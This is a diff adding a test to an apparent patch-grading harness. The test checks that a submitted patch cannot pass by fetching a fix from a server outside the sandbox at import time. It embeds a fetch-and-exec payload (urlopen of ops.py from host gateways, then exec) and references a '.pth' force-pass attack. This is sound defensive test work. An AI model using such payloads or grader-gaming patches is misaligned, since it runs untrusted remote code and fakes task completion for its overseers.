@@ -558,3 +558,68 @@ def test_a_patch_into_the_in_repository_venv_is_refused_even_when_it_unignores_i
     run = _grade(venv_task, attack, image)
     assert run.grade.outcome is Outcome.PATCH_APPLY_FAILED, run.text
     assert f"a path the repository ignores: '{site}/zz_forcepass.pth'" in run.log
+
+
+# The fix fetched at import from a server outside the sandbox (the host, at the gateway of each
+# of the engine's networks, where an inference server or anything else may listen on 0.0.0.0)
+# and run in place of the module's own code: the patch holds no fix, the network would bring it.
+FETCH_FIX = """
+
+def _fetch_fix():
+    import urllib.request
+    for host in HOSTS:
+        try:
+            code = urllib.request.urlopen(f"http://{host}:PORT/ops.py", timeout=3).read()
+        except OSError:
+            continue
+        exec(code, globals())
+        return
+
+
+_fetch_fix()
+"""
+
+
+def test_a_fix_fetched_over_the_network_at_test_time_is_not_resolved(repo, task, image):
+    """The verdict must not depend on anything outside the sandbox. A server on the host hands
+    out the fixed module; with a network (a task that asks for one) the attack resolves, which
+    shows it is real; the grading sandbox's offline network (its own bridge, every packet
+    dropped) leaves the bug in place."""
+    import http.server
+    import threading
+
+    class Fix(http.server.BaseHTTPRequestHandler):
+        def do_GET(self):
+            self.send_response(200)
+            self.end_headers()
+            self.wfile.write(OPS_GOOD.encode())
+
+        def log_message(self, *args):
+            pass
+
+    server = http.server.ThreadingHTTPServer(("0.0.0.0", 0), Fix)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    from deepswe.env.sandbox.docker import client
+    from deepswe.env.sandbox.offline import ensure_offline_network
+
+    engine = client()
+    ensure_offline_network(engine)
+    hosts = [
+        c["Gateway"]
+        for n in engine.networks.list()
+        for c in (n.attrs.get("IPAM") or {}).get("Config") or []
+        if c.get("Gateway")
+    ]
+    try:
+        code = FETCH_FIX.replace("PORT", str(server.server_address[1]))
+        ops = OPS_BUG + code.replace("HOSTS", repr(hosts))
+        patch = patch_of(repo, {"calc/ops.py": ops})
+        online = grade_patch(
+            task, patch, image=image, sandbox_limits=LIMITS.model_copy(update={"network": True})
+        )
+        assert online.grade.outcome is Outcome.RESOLVED, "no attack: the fetch failed online"
+        offline = _grade(task, patch, image)
+        assert offline.grade.outcome is Outcome.UNRESOLVED, offline.text
+        assert offline.grade.f2p_failed == ["tests/test_ops.py::test_add"]
+    finally:
+        server.shutdown()
